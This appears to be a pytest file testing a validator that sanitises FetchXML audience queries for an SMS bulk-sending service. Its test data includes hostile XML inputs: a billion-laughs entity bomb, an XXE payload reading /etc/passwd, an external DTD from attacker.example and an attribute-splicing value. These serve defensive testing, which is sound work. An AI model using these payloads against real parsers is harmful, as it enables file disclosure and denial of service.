"""The audience query check: hostile or unusable FetchXML refused with a reason, the rest cut down to ids (SMS-08)."""

from __future__ import annotations

import pytest
from lxml import etree

from services.sms.bulk.fetchxml import MAX_FETCHXML_BYTES, AudienceQuery, FetchXmlError, audience_query

MEMBERS = {"contact": "contactid", "account": "accountid", "lead": "leadid"}


def fetch(body: str, entity: str = "contact", **attributes: str) -> str:
    extra = "".join(f' {k}="{v}"' for k, v in attributes.items())
    return f'<fetch version="1.0" mapping="logical"{extra}><entity name="{entity}">{body}</entity></fetch>'


LINKED = (
    '<attribute name="fullname"/><all-attributes/><order attribute="fullname"/>'
    '<filter><condition attribute="statecode" operator="eq" value="0"/></filter>'
    '<link-entity name="account" from="accountid" to="parentcustomerid" link-type="outer" alias="a">'
    '<attribute name="name"/><filter><condition attribute="name" operator="like" value="%x%"/></filter>'
    "</link-entity>"
)


def test_columns_become_the_primary_id_and_filters_links_and_orders_stay() -> None:
    query = audience_query(fetch(LINKED, count="50", page="3"), MEMBERS)
    assert query.table == "contact"
    root = etree.fromstring(query.fetchxml)
    entity = root.find("entity")
    assert [a.get("name") for a in root.iter("attribute")] == ["contactid"]
    assert root.find(".//all-attributes") is None
    assert entity.find("order").get("attribute") == "fullname"
    assert entity.find("filter/condition").get("value") == "0"
    link = entity.find("link-entity")
    linked = (link.get("link-type"), link.get("alias"), link.find("filter/condition").get("value"))
    assert linked == ("outer", "a", "%x%")
    assert root.get("count") is None and root.get("page") is None  # the client pages


def test_every_member_table_is_accepted() -> None:
    assert audience_query(fetch("", "lead"), MEMBERS) == AudienceQuery(
        "lead",
        ('<fetch version="1.0" mapping="logical"><entity name="lead"><attribute name="leadid"/></entity></fetch>'),
    )


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE fetch [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
    + fetch('<filter><condition attribute="lastname" operator="eq" value="&c;"/></filter>')
)
XXE = '<?xml version="1.0"?><!DOCTYPE fetch [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + fetch(
    '<filter><condition attribute="lastname" operator="eq" value="&x;"/></filter>'
)
DEEP = fetch("<filter>" * 5000 + '<condition attribute="lastname" operator="null"/>' + "</filter>" * 5000)


@pytest.mark.parametrize(
    "document, reason",
    [
        (BILLION_LAUGHS, "document type"),
        (XXE, "document type"),
        ('<!DOCTYPE fetch SYSTEM "http://attacker.example/x.dtd">' + fetch(""), "document type"),
        (fetch("<filter>" + '<condition attribute="lastname" operator="null"/>' * 20_000 + "</filter>"), "too long"),
        (DEEP, "not well-formed"),
        ("<fetch><entity name='contact'>", "not well-formed"),
        ("", "not well-formed"),
        ("<savedquery><fetch/></savedquery>", "does not start with <fetch>"),
        ('<fetch><entity name="contact"/><entity name="lead"/></fetch>', "exactly one <entity>"),
        (fetch("", "incident"), "'incident', which is not one of account, contact, lead"),
        (fetch("", aggregate="true"), "aggregate"),
        (fetch("", top="50"), "top row limit"),
    ],
)
def test_hostile_or_unusable_queries_are_refused_with_a_reason(document: str, reason: str) -> None:
    with pytest.raises(FetchXmlError) as refused:
        audience_query(document, MEMBERS)
    assert reason in str(refused.value)
    assert "/etc/passwd" not in str(refused.value) or reason == "document type"


def test_the_size_limit_counts_bytes_not_characters() -> None:
    persian = "ب" * (MAX_FETCHXML_BYTES // 2)  # two bytes each in UTF-8
    with pytest.raises(FetchXmlError, match="too long"):
        audience_query(
            fetch(f'<filter><condition attribute="lastname" operator="eq" value="{persian}"/></filter>'), MEMBERS
        )


def test_values_stay_xml_attributes_and_are_never_spliced() -> None:
    query = audience_query(
        fetch(
            '<filter><condition attribute="lastname" operator="eq" '
            'value="x&quot;/&gt;&lt;condition attribute=&quot;a"/></filter>'
        ),
        MEMBERS,
    )
    conditions = etree.fromstring(query.fetchxml).findall(".//condition")
    assert len(conditions) == 1 and conditions[0].get("value") == 'x"/><condition attribute="a'
